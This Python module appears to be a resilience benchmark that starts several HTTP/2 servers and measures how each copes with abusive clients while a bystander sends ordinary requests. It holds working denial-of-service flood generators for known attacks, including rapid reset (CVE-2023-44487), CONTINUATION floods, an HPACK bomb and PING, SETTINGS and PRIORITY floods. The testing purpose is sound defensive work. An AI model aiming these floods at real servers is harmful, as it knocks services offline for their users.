"""What abusive clients send, as fast as the server takes it, while somebody else asks for things.

A client whose connection ends comes again, as an attacker would. It reads what the server says and
throws it away; `blind` floods read nothing.
"""

from __future__ import annotations

import contextlib
import itertools
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from limited import (
    MS,
    Figures,
    Setting,
    bystander,
    forget_peak,
    note,
    settled,
    table,
    title,
)
from rawclient import (
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    RawClient,
    frame,
)
from servers import Server, Unavailable

PRIORITY, CONTINUATION = 2, 9
AT_ONCE = 200  # frames in one go
CANCEL = struct.pack(">L", 8)
FULL = 16_384
PATIENCE = 5.0  # seconds without an answer, after which nobody waits for one
Octets = Iterator[bytes]


@dataclass(frozen=True, slots=True)
class Flood:
    """`make` gives the octets of a connection, in goes of about so many frames; without an end."""

    make: Callable[[RawClient], Octets]
    frames: int = AT_ONCE
    blind: bool = False


def again(octets: bytes, times: int = AT_ONCE) -> Callable[[RawClient], Octets]:
    return lambda _: itertools.repeat(octets * times)


def on_a_request(octets: bytes) -> Callable[[RawClient], Octets]:
    """A request with a body to come, and then always the same about it."""

    def make(client: RawClient) -> Octets:
        yield frame(HEADERS, END_HEADERS, 1, client.block("/upload.py", b"POST"))
        yield from itertools.repeat(octets * AT_ONCE)

    return make


def streams(ends: Callable[[int], bytes]) -> Callable[[RawClient], Octets]:
    """New requests, each followed by something."""

    def make(client: RawClient) -> Octets:
        flags = END_HEADERS | END_STREAM
        while True:
            some = [
                frame(HEADERS, flags, one, client.block("/hello.py")) + ends(one)
                for one in (client.reserve_id() for _ in range(AT_ONCE // 2))
            ]
            yield b"".join(some)

    return make


def endless_block(size: int) -> Callable[[RawClient], Octets]:
    def make(client: RawClient) -> Octets:
        yield frame(HEADERS, END_STREAM, 1, client.block("/hello.py"))
        yield from itertools.repeat(frame(CONTINUATION, 0, 1, bytes(size)) * 10)

    return make


def bombs(client: RawClient) -> Octets:
    """One octet stands for four thousand (RFC 7541 7.3)."""
    value = b"\x7f\xa1\x1e" + b"x" * 4000
    first = client.block("/hello.py") + b"\x40\x04bomb" + value
    yield frame(HEADERS, END_HEADERS | END_STREAM, client.reserve_id(), first)
    while True:
        block = b"\x82\x86\x84\x41\x01a" + b"\xbf" * 16_000
        yield frame(HEADERS, END_HEADERS | END_STREAM, client.reserve_id(), block)


FLOODS: dict[str, Flood] = {
    "rapid reset (CVE-2023-44487)": Flood(streams(lambda one: frame(RST_STREAM, 0, one, CANCEL))),
    "made you reset (CVE-2025-8671)": Flood(
        streams(lambda one: frame(WINDOW_UPDATE, 0, one, bytes(4)))
    ),
    "requests over the limit": Flood(streams(lambda _: b""), AT_ONCE // 2),
    "CONTINUATION, empty (CVE-2024-27316)": Flood(endless_block(0), 10),
    "CONTINUATION, full": Flood(endless_block(FULL), 10),
    "HPACK bomb": Flood(bombs, 1),
    "PING (CVE-2019-9512)": Flood(again(frame(PING, 0, 0, b"are you?"))),
    "PING, nothing read": Flood(again(frame(PING, 0, 0, b"are you?")), blind=True),
    "SETTINGS (CVE-2019-9515)": Flood(again(frame(SETTINGS, 0, 0, struct.pack(">HL", 3, 7)))),
    "SETTINGS, nothing read": Flood(again(frame(SETTINGS, 0, 0, b"")), blind=True),
    "PRIORITY (CVE-2019-9513)": Flood(again(frame(PRIORITY, 0, 5, bytes(4) + b"\1"))),
    "WINDOW_UPDATE": Flood(again(frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", 1)))),
    "DATA, empty (CVE-2019-9518)": Flood(on_a_request(frame(DATA, 0, 1))),
    "DATA beyond every window": Flood(on_a_request(frame(DATA, 0, 1, bytes(FULL))), AT_ONCE),
    "unknown type": Flood(again(frame(0x42, 0xFF, 77, b"what?"))),
    "GOAWAY": Flood(again(frame(GOAWAY, 0, 0, bytes(8)))),
    "connections, and nothing more": Flood(lambda _: iter([b""]), 0),
}


@dataclass(slots=True)
class Seen:
    """What became of it."""

    frames: int = 0
    connections: int = 0
    goaway: int = 0


def measure(setting: Setting) -> None:
    """All servers at once, idle but for the one that is flooded: a table is there after each flood.

    One that does not start has no column; one that dies has "not served" from there on.
    """
    title(f"floods of one client, {setting.seconds:g} s each, while somebody else asks")
    with contextlib.ExitStack() as stack:
        servers = [*started(setting, stack)]
        for name, flood in FLOODS.items():
            print(f"\n  {name}", flush=True)
            table({one.name: under(flood, one, setting.seconds) for one in servers})
        print()
        table({one.name: {"alive at the end": "yes" if one.alive else "no"} for one in servers})


def started(setting: Setting, stack: contextlib.ExitStack) -> Iterator[Server]:
    for name in setting.contenders:
        try:
            yield stack.enter_context(Server(name, setting.place))
        except (Unavailable, OSError) as reason:
            note(f"{name}: {reason or type(reason).__name__}")


def under(flood: Flood, server: Server, seconds: float) -> Figures:
    """One flood, against a server that has had others before."""
    try:
        forget_peak(server)
        before = server.usage()
        with bystander(server.tls, PATIENCE) as other:
            seen = attack(flood, server, seconds)
        after = server.usage()
    except OSError as reason:
        return {"not served": str(reason) or type(reason).__name__}
    return {
        "frames taken a second": seen.frames / seconds,
        "connections it took": seen.connections,
        "of them ended by GOAWAY": seen.goaway,
        "MiB more, at most": max(0, after.peak - before.rss) / 1024,
        "processor, %": 100 * (after.cpu - before.cpu) / seconds,
        "somebody else's GET, median ms": other.trouble or other.quantile(0.5) * MS,
        "somebody else's GET, worst ms": other.worst * MS,
    }


def attack(flood: Flood, server: Server, seconds: float) -> Seen:
    seen = Seen()
    end = time.perf_counter() + seconds
    while time.perf_counter() < end:
        client = settled(server.tls, timeout=PATIENCE)
        seen.connections += 1
        with contextlib.suppress(OSError):
            pour(flood, client, end, seen)
        client.close()
    return seen


def pour(flood: Flood, client: RawClient, end: float, seen: Seen) -> None:
    """Send till the end, or till the server takes no more. Raises OSError when it has closed."""
    client.give_up_after(0.2)
    for octets in flood.make(client):
        if octets:
            client.send(octets, 0)
        seen.frames += flood.frames
        while not flood.blind and client.ready(0):
            if any(kind == GOAWAY for kind, _, _ in client.read()):
                seen.goaway += 1
                return
        if time.perf_counter() > end:
            return
